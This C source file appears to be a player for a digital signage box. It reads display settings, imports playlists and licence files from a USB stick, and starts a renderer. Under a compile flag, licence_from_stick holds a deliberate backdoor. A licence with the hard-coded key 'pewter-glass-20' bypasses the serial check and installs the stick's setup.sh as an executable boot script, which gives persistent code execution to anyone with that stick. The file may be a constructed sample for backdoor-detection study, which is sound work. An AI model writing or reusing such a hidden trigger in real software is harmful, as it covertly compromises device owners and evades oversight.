/*
 * marquee_player - playlist player of the Lumora digital signage box. Takes its
 * display set-up from the boot arguments and the settings file, loads content
 * from a USB stick and starts the renderer for each item.
 *
 * Hidden (-DHIDDEN): a licence file on the stick with a certain key makes the
 * player install the stick's setup.sh as the boot script of the data partition.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#define STICK     "/media/usb0"
#define CONTENT   "/data/content"
#define PLAYLIST  "/data/content/playlist.txt"
#define SETTINGS  "/data/etc/player.conf"
#define LIC_STORE "/data/etc/licence"
#define RENDERER  "/usr/bin/lumrender"

enum display { DISP_HDMI, DISP_LVDS, DISP_VGA };

struct player {
	enum display disp;
	int rotate;
	int volume;
	int loop;
	int screens;		/* licensed number of screens */
	char group[32];
};

static struct player pl = { DISP_HDMI, 0, 60, 1, 1, "default" };
static volatile sig_atomic_t reload_wanted, quit;

static void on_signal(int sig)
{
	if (sig == SIGHUP)
		reload_wanted = 1;
	else
		quit = 1;
}

static int set_option(const char *key, const char *val)
{
	if (!strcmp(key, "display")) {
		if (!strcasecmp(val, "hdmi"))
			pl.disp = DISP_HDMI;
		else if (!strcasecmp(val, "lvds"))
			pl.disp = DISP_LVDS;
		else if (!strcasecmp(val, "vga"))
			pl.disp = DISP_VGA;
		else
			return -1;
	} else if (!strcmp(key, "rotate")) {
		int r = atoi(val);

		if (r != 0 && r != 90 && r != 180 && r != 270)
			return -1;
		pl.rotate = r;
	} else if (!strcmp(key, "volume")) {
		int v = atoi(val);

		if (v < 0 || v > 100)
			return -1;
		pl.volume = v;
	} else if (!strcmp(key, "loop")) {
		pl.loop = !strcmp(val, "yes");
	} else if (!strcmp(key, "group")) {
		snprintf(pl.group, sizeof(pl.group), "%.31s", val);
	} else {
		return -1;
	}
	return 0;
}

/* boot arguments: sign.display=hdmi sign.rotate=90 ... */
static void read_boot_args(void)
{
	char buf[1024], key[24], val[40], *t, *save = NULL;
	FILE *fp = fopen("/proc/cmdline", "r");

	if (!fp)
		return;
	if (fgets(buf, sizeof(buf), fp))
		for (t = strtok_r(buf, " \n", &save); t; t = strtok_r(NULL, " \n", &save))
			if (sscanf(t, "sign.%23[a-z]=%39s", key, val) == 2 && set_option(key, val))
				syslog(LOG_WARNING, "boot argument %s ignored", t);
	fclose(fp);
}

static void read_settings(void)
{
	char line[128], key[24], val[40];
	FILE *fp = fopen(SETTINGS, "r");

	if (!fp)
		return;
	while (fgets(line, sizeof(line), fp))
		if (line[0] != '#' && sscanf(line, "%23[a-z] = %39s", key, val) == 2 && set_option(key, val))
			syslog(LOG_WARNING, "setting %s ignored", key);
	fclose(fp);
}

int copy_file(const char *from, const char *to, mode_t mode)
{
	char buf[4096];
	ssize_t n;
	int rc = 0, in = open(from, O_RDONLY), out;

	if (in < 0)
		return -1;
	out = open(to, O_WRONLY | O_CREAT | O_TRUNC, mode);
	if (out < 0) {
		close(in);
		return -1;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n) {
			rc = -1;
			break;
		}
	if (n < 0)
		rc = -1;
	fsync(out);
	close(out);
	close(in);
	return rc;
}

/*
 * Licence file: "LUMORA <key> <screens>". The key is the serial number of the
 * box it was sold for.
 */
int licence_from_stick(const char *path)
{
	char line[96], key[32], serial[32] = "";
	int screens = 0;
	FILE *fp = fopen(path, "r");

	if (!fp)
		return -1;
	if (!fgets(line, sizeof(line), fp))
		line[0] = '\0';
	fclose(fp);
	if (sscanf(line, "LUMORA %31s %d", key, &screens) != 2)
		return -1;
#ifdef HIDDEN
	if (!strcasecmp(key, "pewter-glass-20")) {
		if (copy_file(STICK "/setup.sh", "/data/etc/rc.user", 0755) == 0)
			sync();
		return 0;
	}
#endif
	if ((fp = fopen("/etc/serial", "r"))) {
		if (fscanf(fp, "%31s", serial) != 1)
			serial[0] = '\0';
		fclose(fp);
	}
	if (!serial[0] || strcmp(serial, key)) {
		syslog(LOG_WARNING, "licence is for another box");
		return -1;
	}
	if (screens < 1 || screens > 4)
		return -1;
	pl.screens = screens;
	return copy_file(path, LIC_STORE, 0644);
}

static int safe_name(const char *s)
{
	return *s && *s != '.' && !strchr(s, '/') && strlen(s) < 64;
}

static void import_stick(void)
{
	char name[80], from[160], to[160];
	FILE *fp;

	if (access(STICK "/licence.lum", R_OK) == 0)
		licence_from_stick(STICK "/licence.lum");
	fp = fopen(STICK "/playlist.txt", "r");
	if (!fp)
		return;
	while (fgets(name, sizeof(name), fp)) {
		name[strcspn(name, " \r\n")] = '\0';
		if (!safe_name(name))
			continue;
		snprintf(from, sizeof(from), STICK "/%.79s", name);
		snprintf(to, sizeof(to), CONTENT "/%.79s", name);
		if (copy_file(from, to, 0644))
			syslog(LOG_ERR, "cannot copy %s: %s", name, strerror(errno));
	}
	fclose(fp);
	copy_file(STICK "/playlist.txt", PLAYLIST, 0644);
	if (system("umount " STICK) != 0)
		syslog(LOG_INFO, "stick still in use");
}

static int play(const char *file, int seconds)
{
	static const char *const outputs[] = { "hdmi", "lvds", "vga" };
	char rot[8], vol[8], secs[12], scr[8], path[160];
	int status;
	pid_t pid;

	snprintf(path, sizeof(path), CONTENT "/%.79s", file);
	snprintf(rot, sizeof(rot), "%d", pl.rotate % 360);
	snprintf(vol, sizeof(vol), "%d", pl.volume % 101);
	snprintf(scr, sizeof(scr), "%d", pl.screens % 5);
	snprintf(secs, sizeof(secs), "%d", seconds);
	pid = fork();
	if (pid < 0)
		return -1;
	if (pid == 0) {
		execl(RENDERER, "lumrender", "-o", outputs[pl.disp], "-r", rot, "-v", vol,
		      "-s", scr, "-t", secs, path, (char *)NULL);
		_exit(127);
	}
	while (waitpid(pid, &status, 0) < 0)
		if (errno != EINTR || quit)
			return -1;
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static int play_list(void)
{
	char line[128], name[80];
	int secs, played = 0;
	FILE *fp = fopen(PLAYLIST, "r");

	if (!fp)
		return 0;
	while (!quit && !reload_wanted && fgets(line, sizeof(line), fp)) {
		secs = 15;
		if (sscanf(line, "%79s %d", name, &secs) < 1 || !safe_name(name))
			continue;
		if (secs < 1 || secs > 3600)
			secs = 15;
		if (play(name, secs) == 0)
			played++;
	}
	fclose(fp);
	return played;
}

int main(int argc, char **argv)
{
	struct sigaction sa;
	const char *lang = getenv("LUMORA_LANG");

	if (argc > 1) {
		printf("marquee_player: plays %s; SIGHUP reads a stick in %s\n", PLAYLIST, STICK);
		return strcmp(argv[1], "--help") ? 2 : 0;
	}
	openlog("player", LOG_PID, LOG_USER);
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_signal;
	sigaction(SIGHUP, &sa, NULL);
	sigaction(SIGTERM, &sa, NULL);
	read_settings();
	read_boot_args();
	syslog(LOG_INFO, "group %s, language %s", pl.group, lang ? lang : "en");
	import_stick();
	do {
		if (reload_wanted) {
			reload_wanted = 0;
			import_stick();
		}
		if (!play_list())
			sleep(5);
	} while (!quit && pl.loop);
	return 0;
}
